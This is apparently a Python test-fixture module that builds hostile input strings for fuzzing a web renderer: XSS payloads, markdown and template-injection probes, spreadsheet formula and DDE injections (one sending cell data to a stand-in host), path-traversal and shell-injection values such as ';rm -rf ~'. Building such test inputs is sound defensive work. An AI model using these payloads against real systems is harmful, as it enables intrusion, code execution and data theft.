"""Hostile input: texts that try to run, to break out of where they stand, or to be taken for
something else, and files that try to exhaust, escape or mislead their reader."""

import random
from itertools import islice, product

# What would run: each sets the mark that a page's guard looks for.
_RUN = "window.__ran=1"
SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script><style>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=https://hostile.invalid/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>go</text></a></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}'>go</a>",
    f"<a href='&#106;avascript:{_RUN}'>go</a>",
    f"<a href='java\tscript:{_RUN}'>go</a>",
    f"<form action='javascript:{_RUN}'><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=https://hostile.invalid/>",
    "<link rel=stylesheet href=https://hostile.invalid/x.css>",
    "<style>@import 'https://hostile.invalid/x.css';</style>",
    "<img src=https://hostile.invalid/x.png>",
    "<div style='background:url(https://hostile.invalid/x.png)'>x</div>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f'" style="animation-name:x" onanimationstart="{_RUN}',
    f"` onerror={_RUN} `",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"${{{_RUN}}}",
    "<!--",
    "<![CDATA[",
    "<?php echo 1 ?>",
    "<",
    "</main>",
    "</table></div></main>",
    "<plaintext>",
    "<noscript>",
)
MARKDOWN = (
    f"[go](javascript:{_RUN})",
    f"[go](JaVaScRiPt:{_RUN})",
    f"[go](java\tscript:{_RUN})",
    f"[go](&#106;avascript:{_RUN})",
    f"[go](&#x6A;avascript&colon;{_RUN})",
    f"[go](vbscript:{_RUN})",
    "[go](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==)",
    f"[go](<javascript:{_RUN}>)",
    f"<javascript:{_RUN}>",
    f"[go][1]\n\n[1]: javascript:{_RUN}",
    f'[go](https://a.invalid "t" onmouseover="{_RUN}")',
    "![x](https://hostile.invalid/x.png)",
    f"![x](javascript:{_RUN})",
    f'![x" onerror="{_RUN}](x)',
    f'[x](x" onmouseover="{_RUN})',
    "# Heading\n\n- a list\n- of things",
    "**bold** _soft_ `code` ~~gone~~",
    "    four spaces of code",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<b>bold</b> &amp; <i>soft</i>",
    "$x^2$ and \\(y\\) and \\[z\\]",
)
TEMPLATES = (
    "{{ 7 * 7 }}", "{% raw %}", "{%- import os -%}", "{# gone #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{ config.__class__.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "{0}", "{}", "{",
    "{0.__class__.__mro__}", "{area.__init__}", "%s%s%s%n", "%(name)s", "%", "$$x$$",
    "$\\frac{1}{0}$",
    "\\input{/etc/passwd}", "\\write18{id}", "$x", "__import__('os').system('id')", "{value!r}",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://hostile.invalid\",\"go\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\ufeff=1+1",
    "\u200b=1+1", "\x00=1+1", "\x1b=1+1", "\xa0=1+1", "\u202e=1+1", "%0A=1+1", "\"=1+1\"", ";=1+1",
    "=IMPORTXML(CONCAT(\"https://hostile.invalid/\",A1),\"//a\")", "\v=1", "\f=1", "\u2003=1",
)  # fmt: skip
PATHS = (
    "..", "../..", "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\Windows\\win.ini",
    "\\\\hostile\\share", "~/.ssh/id", "file:///etc/passwd", "a/b", "a\\b", "a:b", "con", "NUL.txt",
    ".hidden", "-rf", "--edition", ";rm -rf ~", "$(id)", "`id`", "|id", "&& id", "a\nb", "a b", " ",
    "%2e%2e%2f", "..%c0%af", "....//", "*", "?", "x" * 300, "\u2025/", "．．／",
)  # fmt: skip
UNSEEN = (
    "a\x00b", "\x00", "a\x08b", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\x7fb", "a\x85b",
    "\x9bm",
    "\u202eabc 14.0", "\u202dabc", "\u2066abc\u2069", "\u2067abc", "\u200fabc", "\u061cabc",
    "a\u200bb",
    "a\u200db", "\ufeffabc", "a\ufffeb", "a\uffffb", "a\u2028b", "a\u2029b", "a\ud800b", "\udfff",
    "\ud83d", "a\r\nb", "a\tb", "a\x0bb", "a\x0cb", "a\xadb", "\ufff9a\ufffbb", "e" + "\u0301" * 50,
)  # fmt: skip
LETTERS = (
    "😀", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "العربية 14.0", "עברית (14.0)", "中文", "Ünïcödé", "Ваrnеt", "Bаrnet",
    "ﬁ",
    "Ｂａｒｎｅｔ", "İ", "ß", "ǆ", "ᴮᵃʳⁿᵉᵗ", "𝕭𝖆𝖗𝖓𝖊𝖙", "Ⅻ", "½", "١٤", "\U0010fffd", "ậ", "ﷺ", "𓀀",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;", "&amp;lt;", "&amp;amp;lt;", "&", "&amp;", "&nbsp;", "&#60;",
    "&#x3c;script&#x3e;",
    "&#0;", "&#55296;", "&notanentity;", "&ltscript", "&quot;", "&apos;", "&copy", "&#", "&#x",
    "&lt",
    "Bath & North East", "a < b > c", "5 > 3", "\"quoted\"", "it's", "O'Brien & \"sons\" <ltd>",
)  # fmt: skip
CELLS = (
    'a"b', 'a""b', '"', '""', "a,b", "a;b", "a\nb", 'a"\r\n"b', "a|b", "a\tb", "None", "nan",
    "NULL",
    "TRUE", "1e5", "007", "0x1F", "1,000", "-5", "+7.5%", "01/02/2024", "2024-02-30", "#REF!",
    "[c]",
)  # fmt: skip
PAYLOADS = (
    *SCRIPTS, *MARKDOWN, *TEMPLATES, *FORMULAS, *PATHS, *UNSEEN, *LETTERS, *ENTITIES, *CELLS,
)  # fmt: skip
LONG = ("x" * 100_000, "<b>" * 33_000, "word " * 20_000, "&amp;" * 20_000, "😀" * 25_000)
_AROUND = (
    "{}", "A {} B", "{} & Sons", "{}{}", "“{}”", "<b>{}</b>", '"{}"', "\u202e{}", "{}\x00", "\t{}",
    "North {}, 14.0%", "({})", "{}\n{}", "&lt;{}&gt;", "[{}](#main)", "x='{}'",
)  # fmt: skip


def strings(number: int, seed: int = 7) -> list[str]:
    """So many different texts: every payload as it is, then payloads within one another."""
    made = dict.fromkeys(PAYLOADS)
    pairs = [(around, text) for around, text in product(_AROUND, PAYLOADS)]
    random.Random(seed).shuffle(pairs)
    for around, text in pairs:
        made[around.replace("{}", text)] = None
        if len(made) >= number:
            break
    return list(islice(made, number))
